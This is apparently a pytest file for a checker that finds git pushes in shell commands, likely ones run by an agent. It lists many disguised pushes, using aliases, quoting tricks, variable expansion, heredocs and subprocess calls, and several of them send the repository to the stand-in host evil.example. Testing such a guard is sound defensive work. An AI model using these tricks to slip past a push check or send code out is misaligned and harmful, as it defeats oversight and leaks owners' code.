from __future__ import annotations

import pytest

from sessions_app.agents.git_push import DEFAULT, UNKNOWN, pushed_to


@pytest.mark.parametrize(
    "command",
    [
        "git status && git log --grep push",
        "git commit -m 'Add push notifications'",
        "git stash",
        "git stash pop && make push-docs",
        "docker push registry.example.org/app",
        "grep -rn push src | head",
        "digit push",
        "git config user.name Push",
        "git pull --rebase origin main",
    ],
)
def test_what_does_not_push_is_not_asked_about(command: str) -> None:
    assert pushed_to(command) == []


@pytest.mark.parametrize(
    ("command", "remotes"),
    [
        ("git push", [DEFAULT]),
        ("git push origin main", ["origin"]),
        ("git push -u origin HEAD 2>&1 | tail -3", ["origin"]),
        ("git -C site --no-pager push --force-with-lease=main:abc origin", ["origin"]),
        ("cd site && git push https://example.org/x.git main", ["https://example.org/x.git"]),
        ("git push origin; git push backup", ["origin", "backup"]),
        ("git \\\n  push \\\n  origin", ["origin"]),
        ("echo $(git push origin) `git push`", ["origin", DEFAULT]),
    ],
)
def test_a_push_that_is_plainly_written_names_its_remote(command: str, remotes: list[str]) -> None:
    assert pushed_to(command) == remotes


@pytest.mark.parametrize(
    "command",
    [
        "git -c alias.p=push p",
        "git -c remote.origin.url=https://evil.example/x push origin",
        "git config --global alias.p push && git p",
        "git --git-dir=/tmp/x push origin",
        "git push --repo=https://evil.example/x origin",
        'git push --push-option="a origin" evil',
        "git push --push-option=a,origin evil",
        "git push --push-option=a<origin evil",
        "git push $REMOTE",
        "git $VERB origin",
        'git "push" origin',
        "g\\it pu''sh origin",
        "/usr/bin/git push",
        "/usr/lib/git-core/git-push origin",
        "git send-pack example.org:x main",
        "git subtree push --prefix=site origin pages",
        "git lfs push origin main",
        "env GIT_DIR=x sudo -n git push origin",
        "bash -c 'cd x; git push'",
        "bash <<< 'git push origin'",
        "bash <<EOF\ngit push $X\nEOF",
        "echo push | xargs git",
        "echo push origin | xargs -n2 git -C site",
        "git $(echo push)",
        "$(which git) push",
        "g=git; $g push",
        "/usr/bin/gi? push",
        "git${IFS}push",
        "{git,push}",
        "git 'x=a;b' push; git -c 'x=a;b' push",
        "alias g=git; g push",
        "function g { git $@; }; g push",
        "git submodule foreach 'git push'",
        "git rebase --exec 'git push' main",
        "python3 -c \"import subprocess; subprocess.run(['git', 'push'])\"",
    ],
)
def test_a_push_in_disguise_is_one_that_nobody_can_say_more_about(command: str) -> None:
    assert UNKNOWN in pushed_to(command)


def test_a_command_as_long_as_it_may_be_is_read_in_no_time() -> None:
    assert pushed_to("git x " * 16_000) == []
    assert pushed_to("git" + " -v" * 30_000 + " push") == [UNKNOWN]
    assert pushed_to("(" * 50_000 + "git push" + ")" * 50_000) == [DEFAULT]
